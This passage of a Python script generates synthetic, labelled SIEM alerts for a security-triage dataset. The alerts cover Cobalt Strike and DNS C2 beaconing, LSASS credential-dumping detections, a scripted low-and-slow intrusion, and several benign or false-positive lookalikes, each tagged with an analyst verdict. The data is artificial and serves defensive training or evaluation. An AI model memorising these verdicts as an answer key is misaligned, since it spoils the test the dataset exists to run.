        (_at(date(2026, 11, 21), 10, 21, 44, 902117), "10.20.30.12", "ws-eng-012"),
        (_at(INTRUSION_DAYS[0], 3, 52, 9, 118020), BUILD_IP, "build-01"),
        (_at(INTRUSION_DAYS[0], 9, 30, 51, 640233), BUILD_IP, "build-01"),
        (_at(INTRUSION_DAYS[1], 4, 11, 27, 5511), BUILD_IP, "build-01"),
        (_at(date(2026, 11, 25), 16, 44, 2, 301876), "10.20.70.5", "ws-ops-005"),
    ]
    for at, src, host in beacons:
        app = {
            "tls": {
                "sni": C2_DOMAIN,
                "version": "TLS 1.2",
                "ja3": {"hash": "72a589da586844d7f0818ce684948eea"},
            },
            "app_proto": "tls",
        }
        doc = suricata(
            w,
            at,
            "cs_beacon",
            src=src,
            dst=C2_IP,
            dport=443,
            app=app,
            sensor="ids-edge-01",
            to_server=(6, w.rng.randint(1400, 1450)),
            to_client=(5, w.rng.randint(3890, 3930)),
        )
        keys = [*_p("ip", src, C2_IP), *_p("domain", C2_DOMAIN)]
        if src == BUILD_IP:
            keys += _p("host", BUILD_HOST)
        w.add(
            at,
            "cobalt-strike-beacon",
            TP,
            f"Cobalt Strike beacon from {host} to {C2_IP} ({C2_DOMAIN}). Host isolated, C2 "
            "blocked.",
            doc,
            keys,
        )

    dns_c2 = [
        (_at(DEMO_DAY, 11, 30, 30), "10.20.30.47", "ws-eng-007"),
        (_at(date(2026, 11, 25), 17, 50, 12), "10.20.70.5", "ws-ops-005"),
    ]
    for at, src, host in dns_c2:
        count = w.rng.randint(18, 30)
        doc = splunk(
            w,
            at,
            rule_id="9D1F3B5D-7F9B-4D1F-A3C5-E7A9C1E3F5B7",
            rule_name="Periodic DNS Queries to Command and Control Domain",
            rule_title="Periodic DNS queries to $query$ from $src_nt_host$",
            rule_description="A host queried a domain on the command-and-control threat list at "
            "a regular "
            "interval ($count$ queries in 2 hours).",
            search_name="Network - Periodic DNS Queries to Command and Control Domain - Rule",
            domain="network",
            severity="high",
            urgency="high",
            sourcetype="stream:dns",
            fields={
                "src": src,
                "src_nt_host": host,
                "query": C2_DOMAIN,
                "query_type": "A",
                "answer": C2_IP,
                "threat_collection": "c2_domains",
                "count": str(count),
            },
            mitre=["T1071.004", "T1568"],
            tactics=["TA0011"],
            span=7200,
        )
        w.add(
            at,
            "c2-dns-beaconing",
            TP,
            f"DNS beaconing to {C2_DOMAIN} from {host}; same C2 as the beacon.",
            doc,
            [*_p("ip", src), *_p("host", host), *_p("domain", C2_DOMAIN)],
        )

    # The 'jQuery Malleable C2 profile' signature on the CDN serving the real jQuery.
    for day in w.workdays(14):
        src = f"10.20.{w.pick([10, 30, 40, 60])}.{w.rng.randint(11, 60)}"
        keys = [*_p("ip", "192.0.2.130", src), *_p("domain", "static.cdn-edge.example")]
        at = w.place([day], w.work_time, FP, keys)
        version = w.pick(["3.3.1", "3.5.1", "3.6.0"])
        app = {
            "http": {
                "hostname": "static.cdn-edge.example",
                "url": f"/libs/jquery/{version}/jquery.min.js",
                "http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
                "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
                "http_content_type": "application/javascript",
                "http_method": "GET",
                "protocol": "HTTP/1.1",
                "status": 200,
                "length": w.rng.randint(86000, 90000),
            },
            "app_proto": "http",
        }
        doc = suricata(
            w,
            at,
            "cs_jquery",
            src="192.0.2.130",
            sport=80,
            dst=src,
            dport=w.port(),
            app=app,
            sensor="ids-edge-01",
            to_server=(9, w.rng.randint(900, 1100)),
            to_client=(64, w.rng.randint(88000, 92000)),
        )
        w.add(
            at,
            "jquery-cdn-signature",
            FP,
            w.pick(
                [
                    "The real jquery.min.js from the CDN; the Malleable C2 jQuery signature "
                    "matches the genuine file.",
                    "False positive, static.cdn-edge.example serving jQuery. Signature tuned "
                    "upstream, not yet here.",
                ]
            ),
            doc,
            keys,
        )


def ndr_beacons(w: World) -> None:
    """The uptime monitor on web-prod-01 reports home every minute; the NDR calls it
    beaconing (OCSF from NetSight)."""
    for day in w.workdays(8):
        at = w.place(
            [day],
            w.any_time,
            BTP,
            [*_p("host", "web-prod-01"), *_p("ip", "10.0.10.11", "192.0.2.60")],
        )
        doc = {
            "class_uid": 2004,
            "class_name": "Detection Finding",
            "category_uid": 2,
            "category_name": "Findings",
            "activity_id": 1,
            "activity_name": "Create",
            "type_uid": 200401,
            "type_name": "Detection Finding: Create",
            "severity_id": 3,
            "severity": "Medium",
            "status_id": 1,
            "status": "New",
            "confidence_id": 2,
            "confidence": "Medium",
            "time": _epoch_ms(at),
            "message": "Beaconing detected: web-prod-01 -> ingest.status-monitor-saas.example "
            "every 60 s",
            "metadata": {
                "version": "1.3.0",
                "uid": w.uuid(),
                "product": {
                    "name": "NetSight NDR",
                    "vendor_name": "ExampleNet",
                    "version": "7.4.2",
                },
                "logged_time": _epoch_ms(at) + 1800,
            },
            "finding_info": {
                "uid": f"ndr-beacon-{day:%Y-%m-%d}-{w.rng.randint(1000, 9999)}",
                "title": "Periodic beaconing to external host",
                "desc": "Regular outbound connections at a fixed 60-second interval with "
                "near-constant payload "
                "sizes were observed from web-prod-01 (10.0.10.11) to 192.0.2.60 "
                "(ingest.status-monitor-saas.example) over the last 2 hours, consistent with "
                "command-and-control beaconing.",
                "types": ["Beaconing", "Command and Control"],
                "created_time": _epoch_ms(at),
                "first_seen_time": _epoch_ms(at - timedelta(hours=2)),
                "analytic": {
                    "name": "Beacon interval analysis",
                    "uid": "NDR-BEACON-003",
                    "type_id": 2,
                    "type": "Behavioral",
                },
                "attacks": [
                    {
                        "tactic": {"uid": "TA0011", "name": "Command and Control"},
                        "technique": {"uid": "T1071", "name": "Application Layer Protocol"},
                        "sub_technique": {"uid": "T1071.001", "name": "Web Protocols"},
                        "version": "15",
                    }
                ],
            },
            "src_endpoint": {"ip": "10.0.10.11", "hostname": "web-prod-01", "port": w.port()},
            "dst_endpoint": {
                "ip": "192.0.2.60",
                "domain": "ingest.status-monitor-saas.example",
                "port": 443,
            },
            "connection_info": {"protocol_name": "tcp", "direction": "Outbound", "direction_id": 2},
        }
        w.add(
            at,
            "uptime-monitor-heartbeat",
            BTP,
            w.pick(
                [
                    "Uptime monitoring agent on web-prod-01 reporting to the SaaS every minute. "
                    "Expected.",
                    "status-monitor-saas heartbeat again; NDR allow-list change pending.",
                ]
            ),
            doc,
            [
                *_p("host", "web-prod-01"),
                *_p("ip", "10.0.10.11", "192.0.2.60"),
                *_p("domain", "ingest.status-monitor-saas.example"),
            ],
        )


def triage_only(w: World) -> None:
    """Alerts no specific playbook claims: the backup agent reading LSASS on dc01 every
    Saturday night, and a low-and-slow intrusion on ws-fin-031 (26 Nov)."""
    for day in [d for d in _days() if d.weekday() in (2, 5)]:
        at = w.jitter(_at(day, 22, w.rng.randint(5, 25)))
        body = {
            "_event": {"type": ["access"], "dataset": "endpoint.events.api", "module": "endpoint"},
            "host": _win_host("dc01", "10.0.0.5", server=True),
            "user": {"name": "svc-backup", "domain": "ACME"},
            "process": {
                "name": "BackupAgentSvc.exe",
                "pid": w.rng.randint(2000, 9000),
                "executable": "C:\\Program Files\\Backup Agent\\BackupAgentSvc.exe",
                "parent": {
                    "name": "services.exe",
                    "pid": 712,
                    "command_line": "C:\\Windows\\system32\\services.exe",
                },
            },
            "Target": {"process": {"name": "lsass.exe", "pid": 804}},
        }
        doc = elastic(
            w,
            at,
            "lsass",
            category=["process"],
            action="api",
            body=body,
            reason="api event with process BackupAgentSvc.exe by svc-backup on dc01",
        )
        w.add(
            at,
            "backup-agent-lsass",
            FP,
            w.pick(
                [
                    "Backup agent's system-state backup on dc01 (Wednesday and Saturday 23:00). "
                    "Its new build "
                    "is unsigned; vendor ticket open.",
                    "False positive: BackupAgentSvc.exe, the twice-weekly system-state backup.",
                ]
            ),
            doc,
            [*_p("host", "dc01"), *_p("user", "svc-backup", "acme\\svc-backup")],
        )

    # Developers reaching partners' services on ports the network policy does not list.
    partners = [
        ("203.0.113.132", "2222", "ssh", "sftp.partner-logistics.example"),
        ("203.0.113.133", "9418", "git", "git.partner-dev.example"),
        ("203.0.113.134", "8443", "ssl", "portal.partner-bank.example"),
    ]
    for day in w.workdays(8):
        key = w.pick(["a.kowalski", "n.rossi", "r.silva"])
        who = PEOPLE[key]
        dest, port, app, _ = w.pick(partners)
        keys = [*_p("ip", who.ip, dest), *_p("host", who.host)]
        at = w.place([day], w.work_time, BTP, keys)
        count = w.rng.randint(2, 40)
        doc = splunk(
            w,
            at,
            rule_id="5D1C9F3A-7B2E-4C8D-9A1F-0E2D3C4B5A69",
            rule_name="Unapproved Port Activity Detected",
            rule_title=f"Unapproved port {port}/tcp activity from {who.host}",
            rule_description="Detects network traffic on ports that are not approved by the "
            "network usage policy.",
            search_name="Network - Unapproved Port Activity Detected - Rule",
            domain="network",
            severity="medium",
            urgency="medium",
            sourcetype="pan:traffic",
            fields={
                "src": who.ip,
                "src_ip": who.ip,
                "src_nt_host": who.host,
                "dest": dest,
                "dest_ip": dest,
                "dest_port": port,
                "transport": "tcp",
                "app": app,
                "count": str(count),
            },
            mitre=["T1571"],
            tactics=["TA0011"],
        )
        w.add(
            at,
            "partner-unapproved-port",
            BTP,
            w.pick(
                [
                    f"Developer reaching a partner's service on {port}/tcp; firewall exception "
                    "request filed.",
                    f"Known partner endpoint ({dest}) on a non-standard port. Expected, policy "
                    "update pending.",
                ]
            ),
            doc,
            keys,
        )

    okafor = PEOPLE["d.okafor"]
    day = date(2026, 11, 26)
    for (h, m), rule, proc, category, action, why in [
        (
            (8, 5),
            "encoded_ps",
            "powershell.exe",
            ["process"],
            "start",
            "Low-and-slow intrusion on ws-fin-031: encoded PowerShell stager at 08:05.",
        ),
        (
            (10, 40),
            "lsass",
            "svchost_upd.exe",
            ["process"],
            "access",
            "Same intrusion: credential dumping from LSASS by the implant (svchost_upd.exe).",
        ),
        (
            (13, 15),
            "remote_service",
            "sc.exe",
            ["network"],
            "service_create",
            "Same intrusion: lateral movement attempt to file-01 by remote service creation.",
        ),
    ]:
        at = w.jitter(_at(day, h, m))
        body = {
            "_event": {"dataset": "endpoint.events.process", "module": "endpoint"},
            "host": _win_host(okafor.host, okafor.ip),
            "user": {"name": okafor.sam, "domain": "ACME"},
            "process": {"name": proc, "pid": 4120},
        }
        doc = elastic(
            w,
            at,
            rule,
            category=category,
            action=action,
            body=body,
            reason=f"process event with process {proc} by {okafor.sam} on {okafor.host}",
        )
        w.add(
            at,
            "low-and-slow-intrusion",
            TP,
            why,
            doc,
            [*_p("host", okafor.host), *_p("user", okafor.sam, f"acme\\{okafor.sam}")],
        )


FAMILIES: tuple[Callable[[World], None], ...] = (
    build_server,
    vulnerability_scanner,
    ssh_brute_force,
    phishing,
    sign_ins,
    mfa_fatigue,
    cloud_credentials,
    endpoint_malware,
    c2_traffic,
    ndr_beacons,
    triage_only,
)


def _close(w: World, record: Record) -> None:
    """Who closed it and when: the next business hours, within a day or two."""
    record.closed_by = w.pick(list(ANALYSTS))
    t = record.at + timedelta(minutes=w.rng.randint(12, 240))
    while t.weekday() >= 5 or not 7 <= t.hour < 17:
        t += timedelta(minutes=37)
    record.closed_at = t.replace(microsecond=0)


def generate(seed: int = SEED) -> list[Record]:
    """Every record, in alert-time order."""
    w = World(random.Random(seed))  # noqa: S311 - sample data, not secrets
    for family in FAMILIES:
        family(w)
    records = sorted(w.records, key=lambda r: r.at)  # stable: same-time records keep their order
    for record in records:
        _close(w, record)
    return records


def render(records: Iterable[Record]) -> str:
    return "".join(json.dumps(r.line(), ensure_ascii=False) + "\n" for r in records)


def write(path: Path, seed: int = SEED) -> list[Record]:
    records = generate(seed)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(render(records), encoding="utf-8", newline="\n")
    return records


def summary(records: list[Record]) -> str:
    """A table of records per family and verdict."""
    counts: Counter[tuple[str, str]] = Counter((r.family, r.verdict) for r in records)
    families = sorted({r.family for r in records})
    width = max(len(f) for f in families)
    lines = [f"{'family':<{width}}  {'TP':>4} {'BTP':>4} {'FP':>4} {'all':>4}"]
    for fam in families:
        row = [counts[(fam, v)] for v in VERDICTS]
        lines.append(f"{fam:<{width}}  {row[0]:>4} {row[1]:>4} {row[2]:>4} {sum(row):>4}")
    totals = [sum(counts[(f, v)] for f in families) for v in VERDICTS]
    lines.append(
        f"{'total':<{width}}  {totals[0]:>4} {totals[1]:>4} {totals[2]:>4} {sum(totals):>4}"
    )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument(
        "--out", type=Path, default=DEFAULT_OUT, help=f"where to write (default {DEFAULT_OUT})"
    )
    parser.add_argument("--seed", type=int, default=SEED, help=f"random seed (default {SEED})")
    parser.add_argument("--quiet", action="store_true", help="do not print the summary")
    args = parser.parse_args(argv)
    records = write(args.out, args.seed)
    if not args.quiet:
        print(f"wrote {len(records)} labelled alerts to {args.out}")
        print(summary(records))
    return 0


if __name__ == "__main__":
    sys.exit(main())
